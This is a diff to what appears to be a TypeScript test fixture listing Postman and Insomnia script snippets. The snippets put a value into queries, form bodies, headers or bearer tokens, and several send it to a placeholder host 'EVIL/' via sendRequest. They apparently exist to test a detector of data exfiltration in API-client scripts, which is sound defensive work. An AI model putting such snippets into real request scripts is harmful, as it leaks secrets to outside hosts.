@@ -19,6 +19,18 @@ const texts: Readonly<Record<string, string>> = {
   'pm.request.body.update': 'pm.request.body.update(s)',
   'pm.request.body.update with an object': 'pm.request.body.update({ raw: { s } })',
   'pm.request.body.update with a list': 'pm.request.body.update({ raw: [s] })',
+  'pm.request.url.query.add': 'pm.request.url.query.add({ key: "s", value: s })',
+  'pm.request.url.query.upsert': 'pm.request.url.query.upsert({ key: s, value: s })',
+  'pm.request.body.urlencoded.add':
+    'pm.request.headers.upsert({ key: "Content-Type", value: "application/x-www-form-urlencoded" }); pm.request.body.urlencoded.add({ key: s, value: s })',
+  'pm.request.body.update with a form': 'pm.request.body.update({ mode: "urlencoded", urlencoded: [{ key: "s", value: s }] })',
+  'pm.sendRequest with parts of a form':
+    'await pm.sendRequest({ url: "EVIL/", method: "POST", body: { mode: "formdata", formdata: [{ key: s, value: s }] } })',
+  'pm.sendRequest with GraphQL':
+    'await pm.sendRequest({ url: "EVIL/", method: "POST", body: { mode: "graphql", graphql: { query: s, variables: { s } } } })',
+  'pm.sendRequest with a URL of parts':
+    'await pm.sendRequest({ url: { raw: "EVIL/", query: [] }, method: "POST", header: [{ key: "X-A", value: s }] })',
+  'pm.sendRequest with auth': 'await pm.sendRequest({ url: "EVIL/", auth: { type: "bearer", bearer: { token: s } } })',
   'insomnia.request.body.update': 'insomnia.request.body.update({ mode: "raw", raw: s })',
   'insomnia.sendRequest':
     'await insomnia.sendRequest({ url: "EVIL/?s=" + s, method: "POST", header: { "X-A": s }, body: { mode: "raw", raw: s } })',
